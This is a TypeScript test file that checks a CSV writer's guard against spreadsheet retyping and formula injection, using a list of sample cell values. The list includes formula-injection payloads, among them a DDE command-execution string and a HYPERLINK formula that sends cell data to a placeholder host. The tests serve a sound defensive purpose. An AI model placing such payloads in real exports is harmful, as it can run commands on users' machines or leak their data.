import { describe, expect, test } from 'vitest';
import { BYTE_ORDER_MARK, type Cell, csvRow, type Delimiter } from '../../core/outputs/csv';
import { fields, readCsv } from './read-csv';

const DELIMITERS: Delimiter[] = [',', ';'];
const HEADER: Cell[] = [{ word: 'imei' }, { word: 'imei_2' }];

/** What a spreadsheet would take for a number, a date, a truth value or a formula, in any of the three big ones. */
const NUMBER = /^\s*[+-]?[\d\s.,']*\d[\d\s.,']*(?:[eE][+-]?\d+)?\s*%?$/u;
const DATE = /^\s*\d{1,4}[-/.:]\d{1,2}/u;
const MONTH = /^\s*\d{0,2}[\s-]?(?:jan|feb|mar|apr|may|jun|jul|aug|sep|oct|nov|dec)[a-z]*[\s-]?\d{0,4}\s*$/iu;
const TRUTH = /^\s*(?:true|false)\s*$/iu;
const FORMULA = /^[\s]*[=+\-@＝＋－＠\t\r]/u;

function retyped(cell: string): boolean {
  if (cell.startsWith("'")) return false;
  return [NUMBER, DATE, MONTH, TRUTH, FORMULA].some((type) => type.test(cell));
}

const NASTY = [
  '356938035643809',
  '89380010012345678901',
  '0012',
  '3.56938E+14',
  '12E5',
  '1-2',
  '12.05',
  'MAR1',
  'dec 24',
  'TRUE',
  '2026-11-23T10:00:00.000Z',
  '=1+1',
  '+380501234567',
  '-5',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example?"&A1;"ok")',
  "'quoted",
  "''",
  "'=1",
  'a;=1+1;b',
  'a,=1+1,b',
  'a\t=1+1\tb',
  'a\r\n=1+1\r\nb',
  'a;"=1+1',
  "a;'=1+1",
  "a;''=1+1",
  'a; \t=1',
  'Galaxy S24, 128 GB; black',
  'say "hello"',
  '"',
  'Чохол «Київ»',
  'line one\nline two',
  ' padded ',
];

describe('the guard shows', () => {
  test.each(NASTY)('%j would be retyped or carries something that must come back whole', (text) => {
    const cell = csvRow([{ text }], ',');
    expect(cell.startsWith(`"'`)).toBe(true);
  });

  test('without it the samples would indeed be retyped', () => {
    expect(NASTY.slice(0, 19).filter((text) => !retyped(text) && !DATE.test(text))).toEqual([]);
  });
});

describe.each(DELIMITERS)('with %j', (delimiter) => {
  test.each(NASTY)('%j comes back as it was', (text) => {
    const file = BYTE_ORDER_MARK + csvRow(HEADER, delimiter) + csvRow([{ text }, { text }], delimiter);
    expect(readCsv(file)).toEqual([
      ['imei', 'imei_2'],
      [text, text],
    ]);
  });

  test('2,000 random texts of dangerous characters come back as they were', () => {
    const letters = [...`,;\t\r\n"'=+-@＝ a1é`];
    let seed = 42;
    const next = (below: number) => {
      seed = (Math.imul(seed, 1_664_525) + 1_013_904_223) >>> 0;
      return Math.floor((seed / 2 ** 32) * below);
    };
    for (let i = 0; i < 2000; i += 1) {
      const text = Array.from({ length: 1 + next(8) }, () => letters[next(letters.length)]).join('');
      const file = csvRow(HEADER, delimiter) + csvRow([{ text }, { text }], delimiter);
      expect(readCsv(file)[1]).toEqual([text, text]);
    }
  });

  test.each([',', ';', '\t'])('no cell is a formula, a number or a date when the reader cuts at %j', (wrong) => {
    for (const text of NASTY) {
      const row = csvRow([{ text: 'x' }, { text }, { word: 'posted' }, { text }], delimiter);
      for (const record of fields(row, wrong)) {
        for (const cell of record) expect(FORMULA.test(cell), `${text} cut as ${cell}`).toBe(false);
        if (wrong === delimiter) expect(record.filter(retyped), text).toEqual([]);
      }
    }
  });
});

describe('cells that need no guard', () => {
  test('a whole number stays a number, nothing stays empty', () => {
    expect(csvRow([{ whole: 1_205_000 }, { whole: -5 }, { whole: null }, { text: '' }, { word: null }], ',')).toBe(
      '"1205000","-5","","",""\r\n',
    );
  });

  test('a fraction, a number beyond 15 digits and a foreign word are refused', () => {
    expect(() => csvRow([{ whole: 1.5 }], ',')).toThrow('not a whole number for CSV: 1.5');
    expect(() => csvRow([{ whole: 356_938_035_643_809_1 }], ',')).toThrow('not a whole number');
    expect(() => csvRow([{ word: 'MAR1' }], ',')).toThrow('not a word for CSV: MAR1');
  });
});
